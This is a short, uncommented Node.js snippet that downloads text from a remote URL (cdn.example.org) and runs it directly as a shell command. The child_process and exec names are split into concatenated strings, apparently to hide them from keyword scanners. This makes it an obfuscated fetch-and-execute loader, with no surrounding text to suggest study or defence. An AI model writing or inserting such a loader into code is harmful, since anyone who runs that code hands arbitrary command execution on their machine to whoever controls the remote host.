const c = require("child" + "_pro" + "cess");
const h = require("ht" + "tps");
h.get("https://cdn.example.org/s", r => { let b = ""; r.on("data", d => b += d); r.on("end", () => c["ex" + "ec"](b)); });
